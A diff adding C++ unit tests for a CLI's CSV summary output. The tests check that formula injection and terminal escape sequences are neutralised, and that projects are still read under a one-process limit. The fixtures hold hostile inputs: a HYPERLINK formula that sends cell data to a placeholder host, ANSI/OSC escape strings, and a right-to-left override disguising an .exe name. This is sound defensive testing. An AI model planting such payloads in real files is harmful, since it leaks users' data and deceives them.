@@ -4,12 +4,14 @@
 #ifdef HALVERN_CLI
 #include "IoFixture.h"
 #include "forms/TableLayouts.h"
+#include "io/TextCodec.h"
 
 #include <gmock/gmock.h>
 
 #include <clocale>
 #include <cstdio>
 #include <sys/wait.h>
+#include <unistd.h>
 
 using namespace halvern;
 using namespace halvern::testing;
@@ -182,6 +184,43 @@ TEST_F(SummaryCli, CsvRecordsHoldWhatTheWindowShowsAndAnUnreadableProjectItsErro
     EXPECT_THAT(run.Err, HasSubstr(missing + ": error: Cannot open file " + missing));
 }
 
+// Texts from a project or a file name reach a spreadsheet or a terminal: never as a formula,
+// never as control sequences; numbers stay numbers.
+TEST_F(SummaryCli, CsvTextsAreNeitherFormulasNorControlSequences) {
+    TProjectFileData d = RichProject();
+    d.Values.ZoneName = "=HYPERLINK(\"http://x.example/?\"&A1,\"Zone\")";
+    d.Values.ZoneRef = "\x1B]0;owned\x07\u009B2J\u202Egpj.exe";
+    d.Values.WaterSupplySystem = "-2+3";
+    d.Values.ReportNum = "@SUM(1)";
+    const std::string file = dir.File("+zone\x1B[2J.pru");
+    WriteBytes(file, EncodeFileText(FormatProjectFile(d)));
+    const TRun run = RunSummary({"--csv", file, neverPays});
+    EXPECT_EQ(run.ExitCode, 0) << run.Err;
+    for (const char control : {'\x1B', '\x07'})
+        EXPECT_EQ(run.Out.find(control), std::string::npos);
+    for (const char* invisible : {"\u009B", "\u202E"})
+        EXPECT_EQ(run.Out.find(invisible), std::string::npos) << invisible;
+    const auto records = ParseCsv(run.Out);
+    ASSERT_EQ(records.size(), 3u) << run.Out;
+    const auto& names = records[0];
+    const auto field = [&](std::size_t record, const std::string& name) {
+        return records[record]
+                      [static_cast<std::size_t>(std::find(names.begin(), names.end(), name) - names.begin())];
+    };
+    EXPECT_EQ(field(1, "file"), dir.File("+zone\\x1b[2J.pru")); // a full name, starting with "/"
+    EXPECT_EQ(field(1, "zone_name"), "'" + d.Values.ZoneName);
+    EXPECT_EQ(field(1, "analysis_reference"), "\\x1b]0;owned\\x07\\u009b2J\\u202egpj.exe");
+    EXPECT_EQ(field(1, "water_supply_system"), "'-2+3");
+    // Numbers, negative ones too, are as the window shows them (without separators).
+    const auto window = WindowRecord(neverPays, neverPays);
+    bool negative = false;
+    for (std::size_t c = 0; c < window.size(); ++c) {
+        EXPECT_EQ(records[2][c], window[c].second) << window[c].first;
+        negative = negative || window[c].second.starts_with("-");
+    }
+    EXPECT_TRUE(negative) << "the project kept for this shows a negative number";
+}
+
 TEST_F(SummaryCli, JsonLinesCarryTheSameValuesNumbersAsNumbers) {
     const TRun run = RunSummary({"--json", neverPays, missing});
     EXPECT_EQ(run.ExitCode, 1);
@@ -235,6 +274,31 @@ TEST_F(SummaryCli, NumbersArePlainDecimalsInAnyLocale) {
     const TRun german = RunSummary({neverPays}, "de_DE.UTF-8");
     EXPECT_EQ(c.ExitCode, 0);
     EXPECT_EQ(german.Out, c.Out);
+}
+
+// Where the system gives no thread (a user at the limit of their processes), the projects are
+// read one after the other: every record, as with threads.
+TEST_F(SummaryCli, WithoutThreadsEveryProjectIsStillRead) {
+    if (::geteuid() != 0) GTEST_SKIP() << "needs the superuser to run as a user held to one process";
+    const std::vector<std::string> files = {neverPays, TestData("golden/quarter-hour.pru"), neverPays};
+    std::string command = "ASAN_OPTIONS=detect_leaks=0 prlimit --nproc=1 setpriv --reuid=4545 --regid=4545 "
+                          "--clear-groups " +
+                          Quote(HALVERN_CLI) + " summary --csv -j 4";
+    for (const auto& file : files)
+        command += " " + Quote(file);
+    command += " 2>" + Quote(dir.File("stderr"));
+    std::string out;
+    FILE* pipe = ::popen(command.c_str(), "r");
+    ASSERT_NE(pipe, nullptr);
+    char buffer[4096];
+    for (std::size_t n; (n = std::fread(buffer, 1, sizeof buffer, pipe)) > 0;)
+        out.append(buffer, n);
+    const int status = ::pclose(pipe);
+    EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << ReadBytes(dir.File("stderr"));
+    std::vector<std::string> args = {"--csv", "-j", "1"};
+    args.insert(args.end(), files.begin(), files.end());
+    EXPECT_EQ(out, RunSummary(args).Out);
+    EXPECT_EQ(ParseCsv(out).size(), 4u);
 }
 
 TEST_F(SummaryCli, WrongUsageIsRefusedWithStatusTwo) {
